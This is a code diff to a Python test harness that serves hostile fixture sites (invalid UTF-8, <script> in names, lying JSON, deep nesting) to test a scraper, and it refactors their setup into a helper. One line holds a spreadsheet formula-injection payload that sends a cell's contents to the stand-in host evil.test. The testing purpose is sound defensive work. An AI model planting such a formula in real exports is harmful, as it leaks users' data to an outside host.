@@ -839,6 +839,11 @@ def add_content(web: FaultWeb, plan: Plan, copy: int = 0) -> None:
         web.add(host, routes)
         plan.content[host] = Content(fault_class, f"http://{host}/", values)
 
+    def fixture_content(name: str, fault_class: str, path: str) -> None:
+        # A fixture body as a site's homepage, stored with the name and figures its golden file expects.
+        wanted = expected(path.replace(".html", ".expected.json"))
+        content(name, fault_class, {"/": page(fixture(path))}, {"name": wanted["name"], "metrics": wanted["metrics"]})
+
     def rehosted(path: str, name: str) -> bytes:
         # The fixture's links to its own host now point to the test host: the same site, not another.
         own = urlsplit(json.loads((FIXTURES / path.replace(".html", ".expected.json")).read_text())["url"]).hostname
@@ -862,13 +867,7 @@ def add_content(web: FaultWeb, plan: Plan, copy: int = 0) -> None:
     content("utf16", "UTF-16 with BOM", {"/": page(b"\xff\xfe" + utf16.decode("utf-8").encode("utf-16-le"),
                                                    content_type="text/html")},
             {"name": pt["name"], "metrics": pt["metrics"]})  # fmt: skip
-    bad = expected("phpbb/handmade-hostile-invalid-utf8.expected.json")
-    content(
-        "invalid-utf8",
-        "invalid UTF-8",
-        {"/": page(fixture("phpbb/handmade-hostile-invalid-utf8.html"))},
-        {"name": bad["name"], "metrics": bad["metrics"]},
-    )
+    fixture_content("invalid-utf8", "invalid UTF-8", "phpbb/handmade-hostile-invalid-utf8.html")
     lying = expected("discourse/handmade-hostile-about.expected.json")
     content("lying-json", "lying JSON (strings, negatives, > 2**63, nested objects, nulls, duplicated keys)", {
         "/": page(_shell("Lying Forum", '<meta name="generator" content="Discourse 3.2.1 - x">')),
@@ -877,13 +876,7 @@ def add_content(web: FaultWeb, plan: Plan, copy: int = 0) -> None:
                              content_type=JSON_TYPE),
     }, {"name": lying["name"], "metrics": lying["metrics"]})  # fmt: skip
     content("nested", "HTML with 100,000 nested tags", {"/": page(_deep_nesting(100_000))}, {"name": "Nested Club"})
-    script = expected("generic/handmade-hostile-script-name.expected.json")
-    content(
-        "script-name",
-        "<script> in names",
-        {"/": page(fixture("generic/handmade-hostile-script-name.html"))},
-        {"name": script["name"], "metrics": script["metrics"]},
-    )
+    fixture_content("script-name", "<script> in names", "generic/handmade-hostile-script-name.html")
     formula = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'
     content("formula", "=HYPERLINK( and @SUM( texts, javascript: links", {"/": page(
         '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">'
